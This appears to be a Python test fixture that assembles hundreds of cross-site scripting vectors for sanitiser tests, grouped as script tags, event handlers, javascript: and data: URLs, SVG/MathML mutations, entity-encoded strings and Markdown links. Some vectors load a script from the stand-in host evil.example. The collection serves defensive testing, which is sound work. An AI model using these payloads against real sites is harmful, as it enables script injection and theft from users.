"""Cross-site scripting vectors, written for these tests after the known families.

The families are those of the OWASP filter evasion sheet, of html5sec and of the published mutations of sanitisers.
Every script of a vector calls `pwn`.
"""

from itertools import product

_PWN = "pwn()"

SCRIPTS = [
    "<script>pwn()</script>",
    "<SCRIPT SRC=//evil.example/pwn.js></SCRIPT>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script>pwn()",
    "<script/src=data:,pwn()></script>",
    "<script\n>pwn()</script\n>",
    "<script x>pwn()</script x>",
    "<script>pwn()</script/foo>",
    "<<script>pwn()//<</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script>/*<!--*/pwn()/*-->*/</script>",
    "<script><!--\npwn()\n//--></script>",
    "<!--<script>pwn()</script>-->",
    "<script type=module>pwn()</script>",
    "<script>a='</script><img src=x onerror=pwn()>'</script>",
    '<SCRIPT a=">" SRC="https://evil.example/pwn.js"></SCRIPT>',
    "<SCRIPT a='>\"' SRC='https://evil.example/pwn.js'></SCRIPT>",
    "<script\x0c>pwn()</script>",
    "<script\0>pwn()</script>",
    "<s\0cript>pwn()</s\0cript>",
    "\0<script>pwn()</script>",
    "<\0script>pwn()</script>",
    "</script><script>pwn()</script>",
    "<noembed><script>pwn()</script></noembed>",
    "<xmp><script>pwn()</script></xmp>",
    "<plaintext><script>pwn()</script>",
    "<iframe><script>pwn()</script></iframe>",
    "<title><script>pwn()</script></title>",
    "<textarea><script>pwn()</script></textarea>",
    "<select><script>pwn()</script></select>",
    "<style><script>pwn()</script></style>",
]
_EVENTS = [
    ("img src=x", "onerror"),
    ("body", "onload"),
    ("svg", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("div style=animation-name:x", "onanimationstart"),
    ("a href=# id=x tabindex=1", "onfocus"),
    ("button", "onclick"),
    ("form", "onsubmit"),
    ("isindex", "onfocus"),
    ("frameset", "onload"),
    ("p", "onpointerover"),
    ("xss contenteditable", "oncut"),
    ("x", "onclick"),
    ("my-widget", "onclick"),
]
HANDLERS = [
    form.format(tag=tag, event=event)
    for (tag, event), form in product(
        _EVENTS, ["<{tag} {event}=pwn()>", "<{tag}\n{event} = 'pwn()' x", "<{tag}/{event}=pwn()//"]
    )
] + [
    "<img src=x:pwn() onerror=eval(src)>",
    "<img src=x onerror=&#112;&#119;&#110;&#40;&#41;>",
    "<img src=x onerror=\u2028pwn()>",
    "<img src=`x`onerror=pwn()>",
    '<img src="x` `<script>pwn()</script>"` `>',
    '<img """><script>pwn()</script>">',
    "<img src='x' onerror='pwn()",
    '<IMG SRC=# onmouseover="pwn()">',
    "<image src=x onerror=pwn()>",
    "<img onerror=pwn() src=x//",
    "<a onmouseover=pwn()>x</a>",
    '<a href="x" title="</a><img src=x onerror=pwn()>">x</a>',
    "<b onclick=pwn()>x",
    "< img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()<p>",
    "<%<!--'%><script>pwn();</script -->",
    "<%div onmouseover=pwn()>",
    "</ onclick=pwn()>",
    "<! onclick=pwn()>",
    "<?xml onclick=pwn() ?>",
]
URLS = [
    "<a href=javascript:pwn()>x</a>",
    "<a href=' &#1; javascript:pwn()'>x</a>",
    "<a href='java\tscript:pwn()'>x</a>",
    "<a href='java\nscript:pwn()'>x</a>",
    "<a href='jav&#x0A;ascript:pwn()'>x</a>",
    "<a href=&#106;&#97;vascript:pwn()>x</a>",
    "<a href=&#0000106avascript:pwn()>x</a>",
    "<a href='vbscript:pwn()'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg'>x</a>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;pwn()&lt;/script&gt;'></iframe>",
    "<embed src=javascript:pwn()>",
    "<object data='data:text/html,<script>pwn()</script>'></object>",
    "<form action=javascript:pwn()><input type=submit></form>",
    "<button formaction=javascript:pwn()>x</button>",
    "<base href='javascript:/a/-pwn()//'>",
    "<link rel=stylesheet href=javascript:pwn()>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<table background=javascript:pwn()>",
    "<img dynsrc=javascript:pwn() lowsrc=javascript:pwn()>",
    "<style>@import 'javascript:pwn()';</style>",
    "<style>*{background:url(javascript:pwn())}</style>",
    "<div style='width: expression(pwn())'>x</div>",
    "<bgsound src=javascript:pwn()>",
    "<a href='feed:javascript:pwn()'>x</a>",
]
FOREIGN = [
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=data:,pwn() />",
    "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:pwn() /><a id=x><text>x</text></a>",
    "<svg><set attributeName=onload to=pwn() />",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x'/>",
    "<svg><foreignObject><iframe onload=pwn()></iframe></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>",
    "<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>",
    "<svg><style>&lt;img src=x onerror=pwn()&gt;</style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<svg><title><p title='</title><img src=x onerror=pwn()>'>",
    "<svg><p><style><g title='</style><img src onerror=pwn()>'>",
    "<math><mi//xlink:href=data:x,<script>pwn()</script>>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>",
    "<math href=javascript:pwn()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=pwn()></annotation-xml></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=pwn()>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror=pwn()>'>",
    "<svg><mtext><textarea><path id='</textarea><img onerror=pwn() src=1>'>",
    "<svg><font color=x><style><img title='</style><img src=x onerror=pwn()>'>",
]
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<noscript><style></noscript><img src=x onerror=pwn()>",
    "<template><script>pwn()</script></template>",
    "<template><style></template><img src=x onerror=pwn()>",
    "<template><template><img src=x onerror=pwn()></template>",
    "<noembed><img title='</noembed><img src onerror=pwn()>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
    "<style><style/><img src=x onerror=pwn()>",
    "<style><!--</style><img src=x onerror=pwn()>--></style>",
    "<title><p title='</title><img src=x onerror=pwn()>'>",
    "<textarea><p title='</textarea><img src=x onerror=pwn()>'>",
    "<!--><img src=x onerror=pwn()>-->",
    "<!---><img src=x onerror=pwn()>-->",
    "<!--!><img src=x onerror=pwn()>",
    "<!-- --!><img src=x onerror=pwn()>",
    "<!--[if IE]><img src=x onerror=pwn()><![endif]-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=pwn()>'>]>&x;",
    "<?php echo '<img src=x onerror=pwn()>' ?>",
    "<table><td><img src=x onerror=pwn()></table>",
    "<a><table><a><img src=x onerror=pwn()>",
    "<select><style></select><img src=x onerror=pwn()></style>",
    "<listing>&lt;img onerror=pwn() src=x&gt;</listing>",
    "<b></b onclick=pwn()><img src=x onerror=pwn()",
    "<div id=x><img src=x:x onerror=pwn()&gt;",
    "x<y onclick=pwn() z>",
    "<" * 50 + "img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()" + "\n" * 50,
    "<a href=x>" * 20 + "<script>pwn()</script>",
]
_PLAIN = ["<script>pwn()</script>", "<img src=x onerror=pwn()>", "<svg/onload=pwn()>", "</p><b onclick=pwn()>x</b>"]


def _numbers(text: str, form: str) -> str:
    return "".join(form.format(ord(char)) for char in text)


def _named(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


ENCODED = (
    [_named(text) for text in _PLAIN]
    + [_named(_named(text)) for text in _PLAIN]
    + [_named(_named(_named(text))) for text in _PLAIN]
    + [_named(_named(_named(_named(_named(_named(text)))))) for text in _PLAIN]
    + [
        _numbers(text, form)
        for text in _PLAIN
        for form in ("&#{};", "&#{}", "&#x{:x};", "&#X{:06X}", "&amp;#{};", "&#38;#{};")
    ]
    + [
        text.replace("<", entity)
        for text in _PLAIN
        for entity in ("&LT;", "&lt", "&LT", "&#60", "&#x3C", "&ampamplt;", "&amplt", "&amp#60", "&#38lt")
    ]
    + ["&#x26;lt;script&#x26;gt;pwn()", "&&#97;mp;lt;img src=x onerror=pwn()>", "&&num;60;img src=x onerror=pwn()>"]
    + ["&l\0t;script&g\0t;pwn()", "&lt\0;script>pwn()</script>", "&nvlt;script>pwn()</script>"]
)
_RUNS = [
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "javascript&colon;pwn()",
    "javascript&#58;pwn()",
    "javascript&#x3a;pwn()",
    "javascript\\:pwn()",
    "&#106;avascript:pwn()",
    "&#x6a;&#x61;vascript:pwn()",
    "&amp;#106;avascript:pwn()",
    "java&Tab;script:pwn()",
    "java&NewLine;script&colon;pwn()",
    "jav\0ascript:pwn()",
    "\x01javascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,pwn()",
    "data:text/html;base64,cHduKCk=",
    "data&colon;image/svg+xml,pwn()",
    "DATA:,pwn()",
    "javascript://example.com/%0Apwn()",
]
_POINTED = [
    "javascript: pwn()",
    "java\tscript:pwn()",
    "javascript\t:pwn()",
    " javascript:pwn()",
    "data: text/html,pwn()",
]
_PLACES = [
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "[x]({} 'title')",
    "[x](\n{})",
]
MARKDOWN = [place.format(run) for place, run in product(_PLACES, _RUNS)] + [
    place.format(run) for place, run in product(["[x](<{}>)", "![x](<{}>)", "[x][r]\n\n[r]: <{}>"], _POINTED)
]

VECTORS = SCRIPTS + HANDLERS + URLS + FOREIGN + MUTATIONS + ENCODED + MARKDOWN
